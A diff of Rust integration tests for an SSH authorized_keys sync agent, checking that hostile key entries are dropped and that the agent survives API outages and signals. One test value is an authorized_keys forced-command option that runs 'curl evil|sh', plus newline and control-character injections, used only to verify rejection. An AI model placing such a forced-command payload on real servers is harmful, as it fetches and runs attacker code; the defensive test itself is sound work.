+        let (rsa1024_pub, _) = keypair(&keys_dir, "weak-rsa1024", &["-t", "rsa", "-b", "1024"]);
+        let dss = Command::new("ssh-keygen")
+            .args(["-q", "-N", "", "-t", "dsa", "-f"])
+            .arg(keys_dir.join("old-dsa"))
+            .output()
+            .ok()
+            .filter(|o| o.status.success())
+            .and_then(|_| std::fs::read_to_string(keys_dir.join("old-dsa.pub")).ok())
+            .map(|s| s.trim_end().to_string())
+            .unwrap_or_else(dss_line);
+        assert!(dss.starts_with("ssh-dss "), "{dss}");
+        let blob = |i: usize| blob_of(&pool[i]).to_string();
 
-            let hostile: Vec<(&str, String)> = vec![
-                ("newline injection", format!("{}\n{}", pool[0], pool[1])),
-                (
-                    "options",
-                    format!("command=\"/bin/sh -c 'curl evil|sh'\" {}", pool[2]),
-                ),
-                ("private key", ed_private.clone()),
-                ("ssh-dss", dss.clone()),
-                ("rsa-1024", rsa1024_pub.clone()),
-                (
-                    "20 KiB comment",
-                    format!("ssh-ed25519 {} {}", blob(3), "c".repeat(20 * 1024)),
-                ),
-                ("bell", format!("ssh-ed25519 {} bell\x07comment", blob(4))),
-                (
-                    "carriage return",
-                    format!("ssh-ed25519 {} cr\rinjected", blob(5)),
-                ),
-                ("empty", String::new()),
-            ];
-            // Hostile entries must not poison their neighbours: good keys are
-            // interleaved, one of them twice with another comment.
-            let duplicate = format!("ssh-ed25519 {} second-comment", blob(6));
-            let good = [
-                alice.clone(),
-                bob.clone(),
-                ed_pub.clone(),
-                rsa_pub.clone(),
-                ecdsa_pub.clone(),
-                pool[6].clone(),
-            ];
-            let mut served = Vec::new();
-            for (i, (_, h)) in hostile.iter().enumerate() {
-                served.push(h.clone());
-                served.push(good[i % good.len()].clone());
-            }
-            served.push(duplicate);
-            cp.set_keys(served);
+        let hostile: Vec<(&str, String)> = vec![
+            ("newline injection", format!("{}\n{}", pool[0], pool[1])),
+            (
+                "options",
+                format!("command=\"/bin/sh -c 'curl evil|sh'\" {}", pool[2]),
+            ),
+            ("private key", ed_private.clone()),
+            ("ssh-dss", dss.clone()),
+            ("rsa-1024", rsa1024_pub.clone()),
+            (
+                "20 KiB comment",
+                format!("ssh-ed25519 {} {}", blob(3), "c".repeat(20 * 1024)),
+            ),
+            ("bell", format!("ssh-ed25519 {} bell\x07comment", blob(4))),
+            (
+                "carriage return",
+                format!("ssh-ed25519 {} cr\rinjected", blob(5)),
+            ),
+            ("empty", String::new()),
+        ];
+        // Hostile entries must not poison their neighbours: good keys are
+        // interleaved, one of them twice with another comment.
+        let duplicate = format!("ssh-ed25519 {} second-comment", blob(6));
+        let good = [
+            alice.clone(),
+            bob.clone(),
+            ed_pub.clone(),
+            rsa_pub.clone(),
+            ecdsa_pub.clone(),
+            pool[6].clone(),
+        ];
+        let mut served = Vec::new();
+        for (i, (_, h)) in hostile.iter().enumerate() {
+            served.push(h.clone());
+            served.push(good[i % good.len()].clone());
+        }
+        served.push(duplicate);
+        cp.set_keys(served);
 
-            env.write_config(s.config());
-            let (code, stderr) = env.run_once_exit();
-            assert_eq!(
-                code, 0,
-                "bad keys are dropped, the list is still an answer:\n{stderr}"
-            );
-            let text = env.read_target().expect("target");
-            let cache = env.cache("root").expect("cache");
+        env.write_config(s.config());
+        let (code, stderr) = env.run_once_exit();
+        assert_eq!(
+            code, 0,
+            "bad keys are dropped, the list is still an answer:\n{stderr}"
+        );
+        let text = env.read_target().expect("target");
+        let cache = env.cache("root").expect("cache");
 
-            // The good keys, each once, and nothing else.
-            let lines = block_keys(&text);
-            assert_eq!(lines.len(), good.len(), "{text}");
-            for g in &good {
-                let n = lines.iter().filter(|l| blob_of(l) == blob_of(g)).count();
-                assert_eq!(n, 1, "{g} appears {n} times:\n{text}");
-            }
-            // No trace of any hostile entry, in the file or in the hook's cache.
-            let mut forbidden: Vec<(String, &str)> = vec![
-                (blob(0), "newline injection (first half)"),
-                (blob(1), "newline injection (second half)"),
-                (blob(2), "options"),
-                (blob_of(&dss).to_string(), "ssh-dss"),
-                (blob_of(&rsa1024_pub).to_string(), "rsa-1024"),
-                (blob(3), "20 KiB comment"),
-                (blob(4), "bell"),
-                (blob(5), "carriage return"),
-                ("PRIVATE KEY".to_string(), "private key"),
-                ("command=".to_string(), "options"),
-            ];
-            // Every base64 line of the private key's body.
-            for l in ed_private.lines().filter(|l| !l.starts_with("-----")) {
-                forbidden.push((l.to_string(), "private key body"));
-            }
-            for (needle, what) in &forbidden {
-                assert!(
-                    !text.contains(needle.as_str()),
-                    "{what} reached the file:\n{text}"
-                );
-                assert!(
-                    !cache.contains(needle.as_str()),
-                    "{what} reached the cache:\n{cache}"
-                );
-            }
+        // The good keys, each once, and nothing else.
+        let lines = block_keys(&text);
+        assert_eq!(lines.len(), good.len(), "{text}");
+        for g in &good {
+            let n = lines.iter().filter(|l| blob_of(l) == blob_of(g)).count();
+            assert_eq!(n, 1, "{g} appears {n} times:\n{text}");
+        }
+        // No trace of any hostile entry, in the file or in the hook's cache.
+        let mut forbidden: Vec<(String, &str)> = vec![
+            (blob(0), "newline injection (first half)"),
+            (blob(1), "newline injection (second half)"),
+            (blob(2), "options"),
+            (blob_of(&dss).to_string(), "ssh-dss"),
+            (blob_of(&rsa1024_pub).to_string(), "rsa-1024"),
+            (blob(3), "20 KiB comment"),
+            (blob(4), "bell"),
+            (blob(5), "carriage return"),
+            ("PRIVATE KEY".to_string(), "private key"),
+            ("command=".to_string(), "options"),
+        ];
+        // Every base64 line of the private key's body.
+        for l in ed_private.lines().filter(|l| !l.starts_with("-----")) {
+            forbidden.push((l.to_string(), "private key body"));
+        }
+        for (needle, what) in &forbidden {
             assert!(
-                text.bytes()
-                    .all(|b| b == b'\n' || (0x20..0x7f).contains(&b)),
-                "control characters in the file: {text:?}"
+                !text.contains(needle.as_str()),
+                "{what} reached the file:\n{text}"
             );
+            assert!(
+                !cache.contains(needle.as_str()),
+                "{what} reached the cache:\n{cache}"
+            );
+        }
+        assert!(
+            text.bytes()
+                .all(|b| b == b'\n' || (0x20..0x7f).contains(&b)),
+            "control characters in the file: {text:?}"
+        );
 
-            // Each written line is a key OpenSSH itself accepts.
-            let check_dir = env.path().join("ssh-keygen-check");
-            std::fs::create_dir(&check_dir).expect("mkdir");
-            for (i, line) in lines.iter().enumerate() {
-                let file = check_dir.join(format!("line-{i}"));
-                std::fs::write(&file, format!("{line}\n")).expect("write line");
-                let out = ssh_keygen(&["-l", "-f", file.to_str().expect("utf-8")]);
-                let listed = String::from_utf8_lossy(&out.stdout);
-                assert_eq!(
-                    listed.lines().count(),
-                    1,
-                    "ssh-keygen -l on {line:?}: {listed}"
-                );
-            }
-        })
-        .await;
+        // Each written line is a key OpenSSH itself accepts.
+        let check_dir = env.path().join("ssh-keygen-check");
+        std::fs::create_dir(&check_dir).expect("mkdir");
+        for (i, line) in lines.iter().enumerate() {
+            let file = check_dir.join(format!("line-{i}"));
+            std::fs::write(&file, format!("{line}\n")).expect("write line");
+            let out = ssh_keygen(&["-l", "-f", file.to_str().expect("utf-8")]);
+            let listed = String::from_utf8_lossy(&out.stdout);
+            assert_eq!(
+                listed.lines().count(),
+                1,
+                "ssh-keygen -l on {line:?}: {listed}"
+            );
+        }
+    })
+    .await;
 }
 
 // ---------------------------------------------------------------------------
@@ -803,46 +791,44 @@ async fn hostile_keys_never_reach_the_file() {
 #[tokio::test(flavor = "multi_thread")]
 async fn restart_with_the_api_down_serves_the_last_good_keys() {
     let handle = tokio::runtime::Handle::current();
-    Scenario::new()
-        .await
-        .run(move |Scenario { cp, env }| {
-            let keys = gen_ed25519_keys(3);
-            cp.set_keys(keys.clone());
-            env.write_config(Config::vast(&env, &cp.url()));
-            let agent = env.spawn();
-            wait_block(&env, &agent, &keys, "first sync");
-            let (status, _) = agent.stop(Duration::from_secs(5));
-            assert!(status.success());
+    with_no_keys(move |Scenario { cp, env }| {
+        let keys = gen_ed25519_keys(3);
+        cp.set_keys(keys.clone());
+        env.write_config(Config::vast(&env, &cp.url()));
+        let agent = env.spawn();
+        wait_block(&env, &agent, &keys, "first sync");
+        let (status, _) = agent.stop(Duration::from_secs(5));
+        assert!(status.success());
 
-            // Down (503 for everything), target gone, restart.
-            cp.set_down(true);
-            std::fs::remove_file(env.target()).expect("rm target");
-            let seen = cp.request_count();
-            let mut agent = env.spawn();
-            wait_block(&env, &agent, &keys, "restart with the API down");
-            let ok = eventually(DEADLINE, || {
-                cp.requests()[seen..]
-                    .iter()
-                    .any(|r| r.fault == Some("down"))
-            });
-            assert!(ok, "the restarted agent never met the outage");
-            assert!(agent.alive());
-            let (status, _) = agent.stop(Duration::from_secs(5));
-            assert!(status.success());
+        // Down (503 for everything), target gone, restart.
+        cp.set_down(true);
+        std::fs::remove_file(env.target()).expect("rm target");
+        let seen = cp.request_count();
+        let mut agent = env.spawn();
+        wait_block(&env, &agent, &keys, "restart with the API down");
+        let ok = eventually(DEADLINE, || {
+            cp.requests()[seen..]
+                .iter()
+                .any(|r| r.fault == Some("down"))
+        });
+        assert!(ok, "the restarted agent never met the outage");
+        assert!(agent.alive());
+        let (status, _) = agent.stop(Duration::from_secs(5));
+        assert!(status.success());
 
-            // run --once with the API gone entirely (port closed): exit 1, keys written.
-            handle.block_on(cp.shutdown());
-            std::fs::remove_file(env.target()).expect("rm target");
-            let (code, stderr) = env.run_once_exit();
-            assert_eq!(code, 1, "{stderr}");
-            let text = env.read_target().expect("last good keys written");
-            assert_eq!(sorted(&block_keys(&text)), sorted(&keys));
-            assert_eq!(
-                env.cache("root").map(|c| c.lines().count()),
-                Some(keys.len())
-            );
-        })
-        .await;
+        // run --once with the API gone entirely (port closed): exit 1, keys written.
+        handle.block_on(cp.shutdown());
+        std::fs::remove_file(env.target()).expect("rm target");
+        let (code, stderr) = env.run_once_exit();
+        assert_eq!(code, 1, "{stderr}");
+        let text = env.read_target().expect("last good keys written");
+        assert_eq!(sorted(&block_keys(&text)), sorted(&keys));
+        assert_eq!(
+            env.cache("root").map(|c| c.lines().count()),
+            Some(keys.len())
+        );
+    })
+    .await;
 }
 
 // ---------------------------------------------------------------------------
@@ -850,7 +836,7 @@ async fn restart_with_the_api_down_serves_the_last_good_keys() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn sigterm_and_sigint_stop_cleanly_without_leftovers() {
-    Scenario::new().await.run(|s| {
+    with_no_keys(|s| {
         let cp = &s.cp;
         let pool = gen_ed25519_keys(12);
         for sig in [Signal::SIGTERM, Signal::SIGINT] {
